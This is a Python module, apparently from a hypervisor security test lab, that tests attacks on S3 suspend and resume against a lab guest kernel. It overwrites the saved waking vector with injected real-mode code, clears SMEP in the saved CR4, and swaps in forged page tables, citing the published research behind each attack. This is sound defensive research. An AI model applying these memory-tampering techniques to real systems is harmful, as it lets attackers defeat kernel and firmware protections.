"""S3 as a transition, and what an attacker changes in memory while everything in the processor is lost."""

from __future__ import annotations

import struct
from collections.abc import Callable

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.x86.registers import Cr4
from vtlab_attacks.control_registers import forge_tables
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Transition, observe
from vtlab_attacks.guest import Guest
from vtlab_attacks.state import ENTRY_ADDRESS, direct, memory, register, show_bytes

TO_RAM = 3
# struct suspended of vtl0_guest/kernels/selfguard/sleep.c
SAVED_CR3, SAVED_CR4, WAKING_VECTOR = 8, 16, 24
WAKE_PAGE, ROGUE_PAGE, MARK_OFFSET = 0x70000, 0x71000, 0x100
MARK = b"awak"
# Real mode: mov dword ptr cs:[0x100], MARK; jmp WAKE_PAGE:0
ROGUE_CODE = b"\x66\x2e\xc7\x06\x00\x01" + MARK + b"\xea\x00\x00" + struct.pack("<H", WAKE_PAGE >> 4)

BOOT_SCRIPT = "Wojtczuk, Kallenberg 2015, Attacks on UEFI security (the S3 boot script)"
SEAN_S3 = "Heki thread (Christopherson 2024): suspend and resume need more than one hypercall"


def suspend(driver: Driver, attempts: Attempts) -> None:
    """To RAM and back by the clock's alarm."""
    results: list[int] = []
    attempts.step(lambda: results.append(driver.sleep(TO_RAM, 0)))
    attempts.note("the guest went on where it fell asleep: nothing of its memory was asked" if any(results) else "")


def s3(guest: Guest) -> tuple[Guest, Evidence]:
    machine = guest.machine

    def held() -> tuple[int, ...]:
        registers = machine.registers().registers
        return machine.info().generation, registers.cr0, registers.cr3, registers.cr4, registers.efer

    before, ticks = held(), guest.driver.ticks()
    way = guest.driver.sleep(TO_RAM, 0)
    guest.driver.sleep(0, 1)  # interrupts come again
    after = held()
    reached = way == int(guest.machine.info().vtl1_enabled) and after == before and guest.driver.ticks() > ticks
    shown = [" ".join(map(hex, one)) for one in (before, after)]
    return guest, Evidence("generation, CR0, CR3, CR4, EFER", *shown, reached, False)


def change_vector(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    mark = ROGUE_PAGE + MARK_OFFSET
    driver.write_bytes(direct(ROGUE_PAGE), ROGUE_CODE)
    driver.write_bytes(direct(mark), bytes(len(MARK)))
    driver.write(symbols["suspended"] + WAKING_VECTOR, ROGUE_PAGE, 4)
    return observe(
        "mark of the attacker's code at the waking vector",
        lambda: memory(machine, mark, len(MARK)),
        lambda attempts: suspend(driver, attempts),
        symbols,
        lambda _, after: after == MARK,
        show_bytes,
    )


def change_cr4(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    driver.write(symbols["suspended"] + SAVED_CR4, register(machine, "cr4") & ~Cr4.SMEP)
    return observe(
        "CR4.SMEP",
        lambda: int(bool(register(machine, "cr4") & Cr4.SMEP)),
        lambda attempts: suspend(driver, attempts),
        symbols,
        lambda _, after: not after,
    )


def change_tables(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    root = forge_tables(machine, driver, symbols, drop=0)
    driver.write(symbols["suspended"] + SAVED_CR3, root)
    return observe(
        "CR3",
        lambda: register(machine, "cr3"),
        lambda attempts: suspend(driver, attempts),
        symbols,
        lambda _, after: after & ENTRY_ADDRESS == root,
        hex,
    )


_ATTACKS: list[tuple[str, str, str, Callable[[Machine, Driver, Symbols], Evidence]]] = [
    ("s3-changed-waking-vector", "Has S3 wake in the attacker's code", BOOT_SCRIPT, change_vector),
    ("s3-changed-saved-cr4", "Changes the CR4 that waking restores", SEAN_S3, change_cr4),
    ("s3-changed-page-tables", "Changes the CR3 that waking restores", SEAN_S3, change_tables),
]
TRANSITIONS = [Transition("s3", "Suspends to RAM, and wakes by the clock's alarm", "ACPI 6.5, S3", s3)]
TRANSITION_ATTACKS = [Attack(*words) for words in _ATTACKS]
